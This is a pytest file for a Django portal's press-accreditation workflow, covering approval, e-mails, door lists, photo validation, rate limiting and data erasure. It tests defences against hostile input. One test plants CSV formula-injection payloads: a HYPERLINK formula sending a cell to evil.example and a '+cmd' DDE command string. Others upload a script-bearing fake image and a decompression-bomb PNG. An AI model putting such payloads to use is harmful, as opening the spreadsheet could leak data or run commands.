"""The press desk: a reporter asks for accreditation, organisers approve in the admin, the
reporter hears by e-mail, the door list names who comes in; the coverage board by week."""

import csv
import datetime
import io
import re

import pytest
from django.contrib.auth import get_user_model
from django.core.files.uploadedfile import SimpleUploadedFile
from django.utils import timezone
from PIL import Image

from cityportal.events.models import Accreditation, CoverageAssignment, Registration

A = Accreditation.Status


def png() -> bytes:
    buffer = io.BytesIO()
    Image.new("RGB", (60, 80), "#a50f15").save(buffer, "PNG")
    return buffer.getvalue()


def ask(client, event, photo=None, **fields):
    data = {
        "reporter_name": "Lê Thị Phóng Viên",
        "outlet": "Báo Sài Gòn Giải Phóng",
        "press_card_number": "ab-12345",
        "email": "pv@example.invalid",
        "phone": "0912 345 678",
        "consent": "on",
        "photo": photo or SimpleUploadedFile("chan-dung.png", png(), "image/png"),
        **fields,
    }
    return client.post(f"/su-kien/tac-nghiep/{event.pk}/", data)


@pytest.fixture
def organiser(db):
    return get_user_model().objects.create_superuser("bantochuc", "btc@example.invalid", "pw")


def test_accreditation_from_request_to_door_list(
    client, make_event, organiser, mailbox, django_capture_on_commit_callbacks, settings
):
    event = make_event("Họp báo quý III", capacity=10)
    response = ask(client, event)
    assert "Đã nhận đăng ký tác nghiệp" in response.content.decode()
    request = Accreditation.objects.get()
    assert (request.status, request.press_card_number) == (A.PENDING, "AB-12345")
    # Private storage, never under MEDIA_URL.
    assert request.photo.storage.location == str(
        settings.STORAGES["private"]["OPTIONS"]["location"]
    )
    assert not request.photo.path.startswith(str(settings.MEDIA_ROOT))
    Registration.objects.create(
        event=event,
        name="Khách Mời Một",
        email="k1@example.invalid",
        phone="0903 456 789",
        status="confirmed",
    )

    # The photo is for organisers only.
    photo_url = f"/admin/events/accreditations/{request.pk}/photo/"
    assert client.get(photo_url).status_code == 302  # to the login page
    client.force_login(organiser)
    assert client.get(photo_url).getvalue().startswith(b"\x89PNG")

    listing = client.get("/admin/events/accreditations/?status=pending").content.decode()
    assert "Lê Thị Phóng Viên" in listing
    with django_capture_on_commit_callbacks(execute=True):
        done = client.post(
            f"/admin/bulk/events/accreditation/approve_accreditation/?id={request.pk}", {}
        )
    assert done.status_code == 302
    request.refresh_from_db()
    assert request.status == A.APPROVED and request.decided_by == organiser
    [message] = mailbox.whole
    assert message["To"] == "pv@example.invalid"
    assert message["Subject"].strip() == "Đăng ký tác nghiệp được chấp thuận: Họp báo quý III"

    door = client.get(f"/admin/events/{event.pk}/door-list/").content.decode()
    assert "Lê Thị Phóng Viên" in door and "Khách Mời Một" in door and "Thẻ AB-12345" in door
    csv = client.get(f"/admin/events/{event.pk}/door-list/?format=csv").content.decode("utf-8-sig")
    assert "Báo chí,Lê Thị Phóng Viên,Báo Sài Gòn Giải Phóng" in csv
    assert "Khách mời,Khách Mời Một" in csv
    assert "k1@example.invalid" not in csv and "k1@example.invalid" not in door
    # The printed list lies in the lobby: a guest's phone shows only its end.
    assert "0903" not in csv + door and "ĐT …789" in csv and "ĐT …789" in door
    request.photo.delete(save=False)


def test_rejection_in_the_edit_view_emails_the_note(
    client, make_event, organiser, mailbox, django_capture_on_commit_callbacks
):
    event = make_event()
    request = Accreditation.objects.create(
        event=event,
        reporter_name="Trần Văn Báo",
        outlet="Tạp chí X",
        press_card_number="X-1",
        email="bao@example.invalid",
        phone="0900",
        photo="events/press/x.png",
    )
    client.force_login(organiser)
    with django_capture_on_commit_callbacks(execute=True):
        response = client.post(
            f"/admin/events/accreditations/edit/{request.pk}/",
            {"status": "rejected", "decision_note": "Hội trường đã đủ chỗ cho báo chí."},
        )
    assert response.status_code == 302
    [(recipients, text)] = mailbox.messages
    assert recipients == ["bao@example.invalid"]
    assert "chưa được chấp thuận" in text and "Hội trường đã đủ chỗ cho báo chí." in text


def _request(event, card):
    return Accreditation.objects.create(
        event=event,
        reporter_name=f"Phóng viên {card}",
        outlet="Báo Thử",
        press_card_number=card,
        email=f"{card.lower()}@example.invalid",
        phone="0900",
    )


def test_approving_for_a_cancelled_or_past_event_is_refused_in_the_edit_view(
    client, make_event, organiser, mailbox, django_capture_on_commit_callbacks
):
    """The reporter was e-mailed "approved, come 30 minutes early" for an event that was
    cancelled or already over."""
    cancelled = make_event("Họp báo đã hủy")
    cancelled.cancelled = True
    cancelled.save_revision().publish()
    past = make_event("Họp báo đã qua", starts_in=-datetime.timedelta(days=2))
    client.force_login(organiser)
    for event, reason in ((cancelled, "đã hủy"), (past, "đã kết thúc")):
        request = _request(event, f"C-{event.pk}")
        with django_capture_on_commit_callbacks(execute=True):
            response = client.post(
                f"/admin/events/accreditations/edit/{request.pk}/",
                {"status": "approved", "decision_note": ""},
            )
        assert response.status_code == 200
        assert f"Sự kiện “{event.title}” {reason}: không thể duyệt đăng ký tác nghiệp." in (
            response.text
        )
        request.refresh_from_db()
        assert request.status == A.PENDING and request.decided_at is None
    assert mailbox.messages == []


def test_a_bulk_approval_including_a_past_event_approves_none_and_says_why(
    client, make_event, organiser, mailbox, django_capture_on_commit_callbacks
):
    upcoming = _request(make_event("Họp báo sắp tới"), "U-1")
    over = _request(make_event("Họp báo tuần trước", starts_in=-datetime.timedelta(days=7)), "P-1")
    client.force_login(organiser)
    url = f"/admin/bulk/events/accreditation/approve_accreditation/?id={upcoming.pk}&id={over.pk}"
    with django_capture_on_commit_callbacks(execute=True):
        page = client.post(url + "&next=/admin/events/accreditations/", follow=True).text
    assert "Sự kiện “Họp báo tuần trước” đã kết thúc: không thể duyệt" in page
    assert "Chưa đăng ký nào được duyệt" in page
    assert not Accreditation.objects.filter(status=A.APPROVED).exists()
    assert mailbox.messages == []


def test_a_photo_that_is_not_an_image_is_refused(client, make_event):
    event = make_event()
    fake = SimpleUploadedFile("anh.jpg", b"<html><script>alert(1)</script></html>", "image/jpeg")
    response = ask(client, event, photo=fake)
    assert response.status_code == 400
    assert "không phải là tệp ảnh" in response.content.decode()
    assert not Accreditation.objects.exists()


def _notice(response) -> str:
    return re.search(r'<p class="notice" role="status">.*?</p>', response.text, re.S).group()


def test_a_card_asked_for_again_is_answered_as_new_and_only_its_reporter_is_told(
    client, make_event, mailbox, django_capture_on_commit_callbacks
):
    """The form said "Thẻ nhà báo này đã được đăng ký tác nghiệp": anyone could test whether a
    press card was accredited for an event. Now the page is the same as for a new card, and
    the reporter who asked first is mailed (at their address, not the one typed this time)."""
    event = make_event("Họp báo kín")
    with django_capture_on_commit_callbacks(execute=True):
        first = ask(client, event)
    assert first.status_code == 200
    [(recipients, receipt)] = mailbox.messages
    assert recipients == ["pv@example.invalid"]
    assert receipt.lstrip().startswith("Đã nhận đăng ký tác nghiệp: Họp báo kín")
    mailbox.whole.clear(), mailbox.messages.clear()
    for typed in ("AB-12345", "AB12345", "ab 12345"):  # the same card, typed otherwise
        with django_capture_on_commit_callbacks(execute=True):
            again = ask(client, event, press_card_number=typed, email="do-tham@example.invalid")
        assert again.status_code == 200 and _notice(again) == _notice(first)
    assert Accreditation.objects.count() == 1
    assert Accreditation.objects.get().email == "pv@example.invalid"
    told = [recipients for recipients, _ in mailbox.messages]
    assert told == [["pv@example.invalid"]] * 2  # then no more today: nobody's inbox is flooded
    text = mailbox.messages[0][1]
    assert text.lstrip().startswith("Đăng ký tác nghiệp đã có từ trước: Họp báo kín")
    assert "Chào Lê Thị Phóng Viên" in text and "AB-12345" in text
    assert "đang chờ ban tổ chức xem xét" in text
    with django_capture_on_commit_callbacks(execute=True):
        assert ask(client, event, press_card_number="AB-12346").status_code == 200
    assert Accreditation.objects.count() == 2
    for accreditation in Accreditation.objects.all():
        accreditation.photo.delete(save=False)


def test_a_phone_photo_in_heic_is_kept_as_an_upright_jpeg_without_its_location(client, make_event):
    """iPhones and many Android cameras save HEIC, which the form refused; browsers and badge
    printers cannot show it, and the phone's metadata says where the photo was taken."""
    import pillow_heif

    pillow_heif.register_heif_opener()
    portrait = Image.new("RGB", (400, 300), "#336699")  # stored sideways, rotated by EXIF
    exif = Image.Exif()
    exif[0x0112] = 6  # Orientation: rotate 90° clockwise to view
    exif[0x8825] = {1: "N", 2: (10.0, 46.0, 0.0)}  # GPS: where it was taken
    buffer = io.BytesIO()
    portrait.save(buffer, "HEIF", exif=exif.tobytes())
    event = make_event()
    photo = SimpleUploadedFile("IMG_2041.HEIC", buffer.getvalue(), "image/heic")
    assert ask(client, event, photo=photo).status_code == 200
    stored = Accreditation.objects.get().photo
    assert "/IMG_2041" in stored.name and stored.name.endswith(".jpg")
    with Image.open(stored.open("rb")) as kept:
        assert kept.format == "JPEG" and kept.size == (300, 400)  # upright
        assert not kept.getexif().get_ifd(0x8825)  # no location
    stored.delete(save=False)


def test_a_cut_or_disguised_photo_is_refused_with_what_to_do(client, make_event):
    event = make_event()
    cut = SimpleUploadedFile("anh.png", png()[:40], "image/png")  # the upload broke off
    disguised = SimpleUploadedFile("IMG_1.HEIC", b"%PDF-1.4 not a photo", "image/heic")
    for photo in (cut, disguised):
        response = ask(client, event, photo=photo)
        assert response.status_code == 400
        assert f"Không đọc được ảnh “{photo.name}”: tệp có thể bị hỏng" in response.text
    assert not Accreditation.objects.exists()


def test_a_photo_that_would_unpack_into_gigabytes_is_refused_unread(client, make_event):
    buffer = io.BytesIO()
    Image.new("1", (10000, 6000)).save(buffer, "PNG")  # tiny on disk, 60 million pixels
    photo = SimpleUploadedFile("chan-dung.png", buffer.getvalue(), "image/png")
    response = ask(client, make_event(), photo=photo)
    assert response.status_code == 400
    assert "Ảnh “chan-dung.png” quá lớn (trên 50 triệu điểm ảnh)" in response.text
    assert not Accreditation.objects.exists()


def test_a_phone_sized_jpeg_is_taken_up_to_the_limit_and_one_byte_more_is_refused(
    client, make_event, settings
):
    """A phone's JPEG (8-12 MB) was refused at 5 MB although it is shrunk to 1600 px on
    arrival; the limit is 20 MB, and the pixel guard still stands behind it."""
    assert settings.EVENTS_PHOTO_MAX_BYTES == 20 * 1024 * 1024
    buffer = io.BytesIO()
    Image.new("RGB", (4000, 3000), "#808080").save(buffer, "JPEG")
    jpeg = buffer.getvalue()
    padding = settings.EVENTS_PHOTO_MAX_BYTES - len(jpeg)  # a reader stops at the JPEG's end
    event = make_event()
    over = SimpleUploadedFile("IMG_0001.jpg", jpeg + b"\0" * (padding + 1), "image/jpeg")
    response = ask(client, event, photo=over)
    assert response.status_code == 400
    assert "“IMG_0001.jpg” vượt giới hạn 20 MB." in response.text  # not "nặng 20 MB, vượt…"
    assert not Accreditation.objects.exists()
    at_limit = SimpleUploadedFile("IMG_0001.jpg", jpeg + b"\0" * padding, "image/jpeg")
    assert ask(client, event, photo=at_limit).status_code == 200
    stored = Accreditation.objects.get().photo
    with Image.open(stored.open("rb")) as kept:
        assert kept.size == (1600, 1200)
    assert stored.size < 1024 * 1024
    stored.delete(save=False)


def test_the_press_consent_names_everything_the_form_collects(client, make_event):
    event = make_event()
    html = client.get(f"/su-kien/tac-nghiep/{event.pk}/").text
    for item in ("họ tên", "cơ quan báo chí", "số thẻ nhà báo", "ảnh chân dung", "email"):
        assert item in html.split("Tôi đồng ý")[1].split("</label>")[0]


def test_coverage_board_lists_a_week(client, make_event, organiser, staff):
    event = make_event("Hội thảo metro")
    monday = datetime.date(2031, 3, 3)
    CoverageAssignment.objects.create(event=event, reporter=staff["reporter"], date=monday)
    CoverageAssignment.objects.create(
        topic="Ngập nước đường Nguyễn Hữu Cảnh",
        reporter=staff["reporter"],
        date=monday + datetime.timedelta(days=6),
    )
    CoverageAssignment.objects.create(
        topic="Tuần sau", reporter=staff["reporter"], date=monday + datetime.timedelta(days=7)
    )
    week = CoverageAssignment.objects.in_week(monday + datetime.timedelta(days=2))
    assert sorted(a.subject for a in week) == ["Hội thảo metro", "Ngập nước đường Nguyễn Hữu Cảnh"]
    client.force_login(organiser)
    html = client.get("/admin/events/coverage/?week=2031-03-05").content.decode()
    assert "Hội thảo metro" in html and "Ngập nước" in html and "Tuần sau" not in html
    assert timezone.localdate()  # the default listing (this week onwards) renders too
    assert client.get("/admin/events/coverage/").status_code == 200


def test_the_same_card_sent_twice_at_once_is_answered_alike_not_a_server_error(
    client, make_event, monkeypatch, mailbox, django_capture_on_commit_callbacks
):
    from cityportal.events.models.press import AccreditationQuerySet

    event = make_event()
    assert ask(client, event).status_code == 200
    # The second request looked for the card before the first was stored: only the database's
    # unique rule sees it.
    monkeypatch.setattr(
        AccreditationQuerySet, "with_card", lambda queryset, number: queryset.none()
    )
    with django_capture_on_commit_callbacks(execute=True):
        again = ask(client, event, press_card_number="AB-12345", email="khac@example.invalid")
    assert again.status_code == 200 and "Đã nhận đăng ký tác nghiệp" in again.text
    assert Accreditation.objects.count() == 1
    [(recipients, text)] = mailbox.messages
    assert recipients == ["pv@example.invalid"] and "đã được đăng ký từ trước" in text
    Accreditation.objects.get().photo.delete(save=False)


def test_a_persons_data_request_covers_their_sign_ups_and_accreditations(
    client, make_event, django_capture_on_commit_callbacks
):
    from cityportal.feedback.privacy import erase_person, export_person

    event = make_event("Tọa đàm chuyển đổi số")
    assert ask(client, event, email="PV@Example.invalid ").status_code == 200
    Registration.objects.create(
        event=event,
        name="Lê Thị Phóng Viên",
        email="pv@example.invalid",
        phone="0912 345 678",
        status=Registration.Status.CONFIRMED,
    )
    photo = Accreditation.objects.get().photo
    storage, path = photo.storage, photo.name
    assert storage.exists(path)

    exported = export_person("pv@example.invalid")
    assert [r["event"] for r in exported["event_registrations"]] == ["Tọa đàm chuyển đổi số"]
    [accreditation] = exported["press_accreditations"]
    assert accreditation["press_card_number"] == "AB-12345" and accreditation["photo"]

    with django_capture_on_commit_callbacks(execute=True):
        assert erase_person("pv@example.invalid", by="test") == 2
    stored = " ".join(  # every text column (a timestamp's microseconds may read "0912")
        v
        for model in (Registration, Accreditation)
        for row in model.objects.values()
        for v in row.values()
        if isinstance(v, str)
    )
    assert "Phóng Viên" not in stored and "pv@example" not in stored
    assert "0912" not in stored.replace(" ", "")
    assert "AB-12345" not in stored and not storage.exists(path)
    assert Registration.objects.count() == 1  # still counted among the event's attendance
    assert export_person("pv@example.invalid")["press_accreditations"] == []


def test_accreditation_requests_from_one_address_are_limited(client, make_event, settings):
    settings.EVENTS_RATE_PER_IP = (2, 3600)
    event = make_event()
    for n in range(2):
        assert ask(client, event, press_card_number=f"TH-{n}").status_code == 200
    refused = ask(client, event, press_card_number="TH-9", outlet="Báo Tuổi Trẻ")
    assert refused.status_code == 429
    assert "Có quá nhiều lượt gửi" in refused.content.decode()
    assert 'value="Báo Tuổi Trẻ"' in refused.content.decode()  # what was typed stays
    assert Accreditation.objects.count() == 2


def test_admin_numbers_too_long_for_the_database_are_not_found(client, make_event, organiser):
    """The door list and a reporter's photo answered 500 for an id past BIGINT (OverflowError)."""
    event = make_event("Họp báo có danh sách")
    client.force_login(organiser)
    assert client.get(f"/admin/events/{event.pk}/door-list/").status_code == 200
    for number in (2**63, 99999999999999999999999):
        assert client.get(f"/admin/events/{number}/door-list/?format=csv").status_code == 404
        assert client.get(f"/admin/events/accreditations/{number}/photo/").status_code == 404
    assert client.get(f"/admin/events/{2**63 - 1}/door-list/").status_code == 404


def test_door_list_csv_keeps_formulas_typed_by_the_public_as_text(client, make_event, organiser):
    """A reporter's name like =HYPERLINK(…) ran as a formula when the organiser opened the CSV."""
    event = make_event("Họp báo công thức")
    Accreditation.objects.create(
        event=event,
        reporter_name='=HYPERLINK("http://evil.example/?"&C3,"Bấm")',
        outlet="-2+3",
        press_card_number="AB-1",
        email="pv@example.invalid",
        phone="0912 345 678",
        status=A.APPROVED,
    )
    Registration.objects.create(
        event=event,
        name="@SUM(1+1)",
        email="k@example.invalid",
        organisation="+cmd|' /C calc'!A0",
        status="confirmed",
    )
    client.force_login(organiser)
    body = client.get(f"/admin/events/{event.pk}/door-list/?format=csv").content.decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(body)))
    assert rows[1][2:4] == ['\'=HYPERLINK("http://evil.example/?"&C3,"Bấm")', "'-2+3"]
    assert rows[2][2:4] == ["'@SUM(1+1)", "'+cmd|' /C calc'!A0"]


def test_a_reporter_name_with_a_link_is_refused(client, make_event):
    """Rejecting spam requests in bulk mailed "Chào <name with a link>" to each address typed."""
    event = make_event("Họp báo có spam")
    refused = ask(client, event, reporter_name="Xem ngay http://lua-dao.example")
    assert refused.status_code == 400
    assert "Họ tên không được chứa đường dẫn" in refused.content.decode()
    assert not Accreditation.objects.exists()


def test_photos_are_not_read_without_limit_from_forms_that_always_fail(
    client, make_event, settings
):
    """Only accepted requests were counted: a form left without consent, sent again and again
    with a 49-megapixel PNG of a few kilobytes, had each photo opened (half a gigabyte each)."""
    settings.EVENTS_RATE_PER_IP = (2, 3600)
    event = make_event()
    for _ in range(2 * 3):
        assert ask(client, event, consent="").status_code == 400
    refused = ask(client, event, consent="", outlet="Báo Tuổi Trẻ")
    assert refused.status_code == 429
    assert "Có quá nhiều lượt gửi" in refused.content.decode()
    assert 'value="Báo Tuổi Trẻ"' in refused.content.decode()  # what was typed stays
    assert not Accreditation.objects.exists()


def test_an_accreditation_without_a_photo_lists_no_link_to_one(client, make_event, organiser):
    """The demo's reporters (and any row made outside the public form) have no badge photo: the
    list offered "Xem ảnh", which opened a missing-file page."""
    Accreditation.objects.create(
        event=make_event("Họp báo quý IV"),
        reporter_name="Phóng Viên Không Ảnh",
        outlet="Báo Thử",
        press_card_number="AB 1",
        email="pv@example.invalid",
        phone="0901",
    )
    client.force_login(organiser)
    listing = client.get("/admin/events/accreditations/").content.decode()
    assert "Phóng Viên Không Ảnh" in listing
    assert "Xem ảnh" not in listing
